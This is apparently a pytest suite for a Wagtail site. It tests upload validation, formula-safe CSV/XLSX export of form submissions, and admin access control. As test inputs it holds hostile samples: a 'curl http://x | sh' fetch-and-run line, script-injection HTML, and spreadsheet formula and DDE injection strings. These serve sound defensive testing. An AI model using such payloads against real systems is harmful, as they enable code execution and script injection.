"""Uploads are checked before they are stored; staff-only things stay staff-only."""

import csv
import html
import io
import zipfile

import openpyxl
import pytest
from PIL import Image as PILImage

from django.core.files.uploadedfile import SimpleUploadedFile

from wagtail.contrib.forms.models import FormSubmission
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection, Page

from blog.models import BlogIndexPage
from practice_site.edge.uploads import DOCUMENT_CHECKS
from practice_site.editorial.roles import EDITORS
from tests.factories import BlogPageFactory, staff_user
from tests.upload_files import forged_png, giant_animated_gif

pytestmark = pytest.mark.django_db


def file_id(value):
    """Test ids name files, not their bytes: files made here carry the time they were made
    (ZIP entries, spreadsheet properties), and ids must be the same in every xdist worker."""
    return "file" if isinstance(value, bytes) else None


def png_bytes(width, height) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("1", (width, height)).save(buffer, format="PNG", optimize=True)
    return buffer.getvalue()


def image_bytes(format, size=(120, 80), frames=1) -> bytes:
    buffer = io.BytesIO()
    images = [PILImage.new("RGB", size, (40 * n, 90, 160)) for n in range(frames)]
    extra = {"save_all": True, "append_images": images[1:]} if frames > 1 else {}
    images[0].save(buffer, format=format, **extra)
    return buffer.getvalue()


@pytest.fixture
def editor_client(client, site_content):
    """Signed in as an Editor, who may add images and documents."""
    client.force_login(staff_user("uploader", EDITORS, password="a-long-test-password-4410"))
    return client


def upload_image(admin_client, name, content, content_type="image/png"):
    return admin_client.post(
        "/admin/images/add/",
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type=content_type),
            "collection": "1",
            "description": "A test image",
        },
    )


def upload_images(client, name, content, content_type="image/png"):
    """The "Add images" page's uploader: one file per request, a JSON answer."""
    # The uploader names a collection, as the page does (a new install has two: the
    # root and the initial artwork's).
    return client.post(
        "/admin/images/multiple/add/",
        {
            "files[]": SimpleUploadedFile(name, content, content_type=content_type),
            "collection": Collection.get_first_root_node().pk,
        },
        headers={"x-requested-with": "XMLHttpRequest"},
    )


def form_error(response) -> str:
    """The file field's error as the admin shows it."""
    assert response.status_code == 200
    errors = response.context["form"].errors.get("file")
    assert errors, "the form was not refused for its file"
    text = " ".join(errors)
    assert html.escape(text, quote=False) in response.content.decode() or (
        text in response.content.decode()
    )
    return text


class TestImageUploads:
    def test_a_real_image_is_accepted(self, admin_client, site_content):
        response = upload_image(admin_client, "ok.png", png_bytes(200, 100))
        assert response.status_code == 302
        assert Image.objects.filter(title="ok.png").exists()

    @pytest.mark.parametrize(
        ("name", "content", "content_type"),
        [
            ("photo.jpg", image_bytes("JPEG"), "image/jpeg"),
            ("diagram.png", image_bytes("PNG"), "image/png"),
            ("spinner.gif", image_bytes("GIF", (64, 64), frames=5), "image/gif"),
            ("photo.webp", image_bytes("WEBP"), "image/webp"),
            ("photo.avif", image_bytes("AVIF"), "image/avif"),
        ],
        ids=file_id,
    )
    def test_ordinary_images_are_accepted_on_both_upload_pages(
        self, editor_client, name, content, content_type
    ):
        response = upload_image(editor_client, name, content, content_type)
        assert response.status_code == 302
        assert Image.objects.filter(title=name).count() == 1

        response = upload_images(editor_client, "again-" + name, content, content_type)
        assert response.status_code == 200
        assert response.json()["success"] is True
        assert Image.objects.filter(title="again-" + name).count() == 1

    def test_a_png_claiming_65535_by_65535_pixels_is_refused(self, editor_client):
        forged = forged_png()
        assert len(forged) < 200

        error = form_error(upload_image(editor_client, "forged.png", forged))
        assert "pixels" in error
        assert "40,000,000" in error

        response = upload_images(editor_client, "forged.png", forged)
        assert response.status_code == 200
        assert response.json() == {"success": False, "error_message": error}
        assert not Image.objects.exists()

    def test_a_16_gigapixel_animated_gif_is_refused(self, editor_client):
        gif = giant_animated_gif()
        assert len(gif) < 30_000

        error = form_error(upload_image(editor_client, "giant.gif", gif, "image/gif"))
        assert "1,000 frames of 4,000 × 4,000 pixels" in error
        assert "16,000,000,000" in error

        response = upload_images(editor_client, "giant.gif", gif, "image/gif")
        assert response.json() == {"success": False, "error_message": error}
        assert not Image.objects.exists()

    @pytest.mark.parametrize(
        ("name", "format"),
        [("five.gif", "GIF"), ("five.png", "PNG"), ("five.webp", "WEBP"), ("five.avif", "AVIF")],
    )
    def test_every_frame_of_an_animation_counts_against_the_limit(
        self, editor_client, settings, name, format
    ):
        settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 64 * 64 * 4
        animation = image_bytes(format, (64, 64), frames=5)

        error = form_error(upload_image(editor_client, name, animation, "image/" + format.lower()))

        assert "5 frames of 64 × 64 pixels (20,480 pixels in all)" in error
        assert not Image.objects.exists()

    def test_the_choosers_upload_tab_refuses_them_too(self, editor_client):
        for name, content in [("forged.png", forged_png()), ("giant.gif", giant_animated_gif())]:
            response = editor_client.post(
                "/admin/images/chooser/create/",
                {
                    "image-chooser-upload-title": name,
                    "image-chooser-upload-file": SimpleUploadedFile(name, content),
                    "image-chooser-upload-collection": "1",
                },
            )
            assert response.status_code == 200
            assert response.json()["step"] == "reshow_creation_form"
            assert (
                "images can have at most 40,000,000 pixels"
                in response.json()["htmlFragment"].lower()
            )
        assert not Image.objects.exists()

    def test_replacing_an_images_file_is_checked_too(self, editor_client):
        upload_image(editor_client, "logo.png", image_bytes("PNG"))
        image = Image.objects.get()

        response = editor_client.post(
            f"/admin/images/{image.pk}/",
            {
                "title": "logo.png",
                "file": SimpleUploadedFile("logo.png", forged_png()),
                "collection": "1",
                "description": "A test image",
            },
        )

        assert "header claims far more pixels" in form_error(response)
        image.refresh_from_db()
        assert (image.width, image.height) == (120, 80)

    def test_a_png_header_with_garbage_after_it_is_refused(self, editor_client):
        broken = b"\x89PNG\r\n\x1a\n" + b"not really a png" * 8
        error = form_error(upload_image(editor_client, "broken.png", broken))
        assert error.startswith(
            "This file is not a readable PNG image, although its name ends in .png: it is "
            "damaged, or another kind of file renamed."
        )

    def test_an_image_must_be_the_format_its_name_says(self, editor_client):
        error = form_error(upload_image(editor_client, "photo.jpg", image_bytes("PNG")))
        assert error == (
            "This file is a PNG image, although its name ends in .jpg. Please rename it to "
            "end in .png and upload it again."
        )
        assert not Image.objects.exists()

    def test_svg_is_refused(self, admin_client, site_content):
        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
        response = upload_image(admin_client, "icon.svg", svg, "image/svg+xml")
        assert response.status_code == 200  # The form again, with the error.
        assert not Image.objects.filter(title="icon.svg").exists()

    def test_a_non_image_with_an_image_extension_is_refused(self, admin_client, site_content):
        response = upload_image(admin_client, "fake.jpg", b"#!/bin/sh\necho not an image\n")
        assert response.status_code == 200
        assert not Image.objects.filter(title="fake.jpg").exists()

    def test_a_decompression_bomb_is_refused(self, admin_client, site_content, settings):
        # A few kilobytes of PNG that would unpack to 64 million pixels.
        settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 40_000_000
        response = upload_image(admin_client, "bomb.png", png_bytes(8000, 8000))
        assert response.status_code == 200
        assert "8,000 × 8,000 pixels" in form_error(response)
        assert not Image.objects.filter(title="bomb.png").exists()

    def test_a_file_over_the_size_limit_is_refused(self, admin_client, site_content, settings):
        settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 1000
        big = io.BytesIO()
        PILImage.effect_noise((200, 200), 64).convert("RGB").save(big, format="PNG")
        response = upload_image(admin_client, "big.png", big.getvalue())
        assert response.status_code == 200
        assert not Image.objects.filter(title="big.png").exists()


# A minimal, well-formed PDF: one empty page.
REAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def xlsx_bytes() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["Fee", "Amount"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def docx_bytes(
    main_type="application/vnd.openxmlformats-officedocument.wordprocessingml",
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Override PartName="/word/document.xml" '
            f'ContentType="{main_type}.document.main+xml"/></Types>',
        )
        package.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


def odt_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def upload_document(client, name, content):
    return client.post(
        "/admin/documents/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": "1"},
    )


def upload_documents(client, name, content):
    """The "Add documents" page's uploader: one file per request, a JSON answer."""
    return client.post(
        "/admin/documents/multiple/add/",
        {
            "files[]": SimpleUploadedFile(name, content),
            "collection": Collection.get_first_root_node().pk,
        },
        headers={"x-requested-with": "XMLHttpRequest"},
    )


class TestDocuments:
    def test_only_allowed_extensions_are_accepted(self, admin_client, site_content):
        for name, allowed in [("notice.pdf", True), ("payload.html", False), ("run.exe", False)]:
            admin_client.post(
                "/admin/documents/add/",
                {
                    "title": name,
                    "file": SimpleUploadedFile(name, b"%PDF-1.4 test"),
                    "collection": "1",
                },
            )
            assert Document.objects.filter(title=name).exists() is allowed, name

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("intake.pdf", REAL_PDF),
            ("fees.xlsx", xlsx_bytes()),
            ("letter.docx", docx_bytes()),
            ("letter.odt", odt_bytes()),
            ("letter.rtf", b"{\\rtf1\\ansi Dear patient,\\par}"),
            ("hours.txt", "Monday–Friday, 9–5. Fees: $150 < $200.\n".encode()),
            ("hours.csv", b"day,open\r\nMonday,9:00\r\nTuesday,9:00\r\n"),
        ],
        ids=file_id,
    )
    def test_real_documents_are_accepted_on_both_upload_pages(self, editor_client, name, content):
        response = upload_document(editor_client, name, content)
        assert response.status_code == 302, response.context["form"].errors
        assert Document.objects.filter(title=name).count() == 1

        response = upload_documents(editor_client, "again-" + name, content)
        assert response.json()["success"] is True
        assert Document.objects.filter(title="again-" + name).count() == 1

    def test_the_choosers_upload_tab_refuses_a_disguised_document(self, editor_client):
        response = editor_client.post(
            "/admin/documents/chooser/create/",
            {
                "document-chooser-upload-title": "invoice.pdf",
                "document-chooser-upload-file": SimpleUploadedFile("invoice.pdf", HTML_PAGE),
                "document-chooser-upload-collection": "1",
            },
        )
        assert response.status_code == 200
        assert response.json()["step"] == "reshow_creation_form"
        assert "This file is not a real PDF document" in response.json()["htmlFragment"]
        assert not Document.objects.exists()

    def test_html_renamed_pdf_is_refused(self, editor_client):
        error = form_error(upload_document(editor_client, "invoice.pdf", HTML_PAGE))
        assert error == (
            "This file is not a real PDF document, although its name ends in .pdf: its "
            "contents are a web page or other markup (HTML, SVG or XML). Please upload the "
            "original PDF document."
        )

        response = upload_documents(editor_client, "invoice.pdf", HTML_PAGE)
        assert response.json() == {"success": False, "error_message": error}
        assert not Document.objects.exists()

    @pytest.mark.parametrize(
        ("name", "content", "found"),
        [
            ("logo.pdf", b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "markup"),
            ("run.pdf", b"#!/bin/sh\ncurl http://x | sh\n", "a script"),
            ("notes.txt", b"Hello\n<script>alert(1)</script>\n", "markup"),
            ("list.csv", b"name\r\n<iframe src=//x>\r\n", "markup"),
            ("letter.docx", odt_bytes(), "a ZIP archive"),
            ("macro.docx", docx_bytes("application/vnd.ms-word.document.macroEnabled"), "ZIP"),
            ("fees.xlsx", docx_bytes(), "a ZIP archive"),
            ("letter.odt", docx_bytes(), "a ZIP archive"),
            ("letter.rtf", REAL_PDF, "a PDF document"),
            ("data.csv", png_bytes(20, 20), "a PNG image"),
            ("page.docx", HTML_PAGE + docx_bytes(), "markup"),
        ],
        ids=file_id,
    )
    def test_disguised_files_are_refused(self, editor_client, name, content, found):
        error = form_error(upload_document(editor_client, name, content))
        assert "This file is not a real" in error
        assert found in error
        assert not Document.objects.exists()

    def test_every_allowed_extension_has_a_content_check(self, settings):
        assert set(settings.WAGTAILDOCS_EXTENSIONS) <= set(DOCUMENT_CHECKS)

    def test_documents_download_with_a_strict_policy(self, client, site_content):
        document = Document.objects.create(
            title="Fees", file=SimpleUploadedFile("fees.pdf", b"%PDF-1.4 fees")
        )

        response = client.get(document.url)

        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        assert "default-src 'none'" in response["Content-Security-Policy"]
        assert response["X-Content-Type-Options"] == "nosniff"


FORMULA = '=HYPERLINK("http://x","y")'


class TestInquiryExport:
    @pytest.fixture
    def contact(self, site_content):
        contact = Page.objects.get(slug="contact")
        FormSubmission.objects.create(
            page=contact,
            form_data={
                "name": FORMULA,
                "contact_method": "phone",
                "phone": "+1 555 0100",
                "email": "",
                "best_time": "@SUM(1+1)*cmd|' /C calc'!A0",
                "service": "Not sure yet",
            },
        )
        FormSubmission.objects.create(
            page=contact,
            form_data={
                "name": "Alex Example",
                "contact_method": "email",
                "phone": "",
                "email": "alex@example.com",
                "best_time": "Mornings",
                "service": "TMS",
            },
        )
        return contact

    def test_csv_cells_that_start_a_formula_are_text(self, admin_client, contact):
        response = admin_client.get(f"/admin/forms/submissions/{contact.pk}/?export=csv")

        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment")
        body = b"".join(response.streaming_content).decode()
        rows = {row["Your name"]: row for row in csv.DictReader(io.StringIO(body))}
        assert set(rows) == {"'" + FORMULA, "Alex Example"}
        formula_row = rows["'" + FORMULA]
        assert formula_row["Phone number"] == "'+1 555 0100"
        assert formula_row["Best time to reach you"].startswith("'@SUM")
        assert rows["Alex Example"]["Email address"] == "alex@example.com"

    def test_xlsx_cells_that_start_a_formula_are_text(self, admin_client, contact):
        response = admin_client.get(f"/admin/forms/submissions/{contact.pk}/?export=xlsx")

        assert response.status_code == 200
        workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        rows = list(workbook.active.iter_rows(values_only=True))
        headings = rows[0]
        by_name = {row[headings.index("Your name")]: row for row in rows[1:]}
        assert set(by_name) == {"'" + FORMULA, "Alex Example"}
        assert by_name["'" + FORMULA][headings.index("Phone number")] == "'+1 555 0100"
        # Stored as text, never a formula cell.
        cells = list(workbook.active.iter_rows(min_row=2))
        assert all(cell.data_type != "f" for row in cells for cell in row)

    def test_the_stored_inquiry_is_unchanged(self, admin_client, contact):
        admin_client.get(f"/admin/forms/submissions/{contact.pk}/?export=csv")
        assert {s.form_data["name"] for s in FormSubmission.objects.filter(page=contact)} == {
            FORMULA,
            "Alex Example",
        }


class TestAnonymousAccess:
    @pytest.mark.parametrize(
        "url",
        [
            "/admin/",
            "/admin/pages/",
            "/admin/forms/",
            "/admin/settings/practice_site/practicesettings/1/",
            "/admin/users/",
            "/admin/reports/review-due/",
            "/admin/snippets/practice_site/calltoaction/",
        ],
    )
    def test_admin_urls_send_visitors_to_sign_in(self, client, site_content, url):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/admin/login/")

    def test_previews_drafts_and_submissions_are_out_of_reach(self, client, site_content):
        blog = BlogIndexPage.objects.get()
        draft = BlogPageFactory(parent=blog, slug="secret-draft", live=False)
        contact = Page.objects.get(slug="contact")

        assert client.get("/blog/secret-draft/").status_code == 404
        for url in [
            f"/admin/pages/{draft.pk}/view_draft/",
            f"/admin/pages/{draft.pk}/edit/preview/",
            f"/admin/forms/submissions/{contact.pk}/",
        ]:
            response = client.get(url)
            assert response.status_code == 302, url
            assert response["Location"].startswith("/admin/login/"), url

    def test_admin_is_not_indexed(self, client, site_content):
        response = client.get("/admin/login/")
        assert response["X-Robots-Tag"] == "noindex, nofollow"
        assert "X-Robots-Tag" not in client.get("/").headers


def test_security_txt(client, practice_settings, settings):
    settings.SECURITY_CONTACT = "mailto:security@practice.example"

    response = client.get("/.well-known/security.txt")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    body = response.content.decode()
    assert "Contact: mailto:security@practice.example" in body
    assert "Expires: " in body
    assert "Canonical: http://testserver/.well-known/security.txt" in body
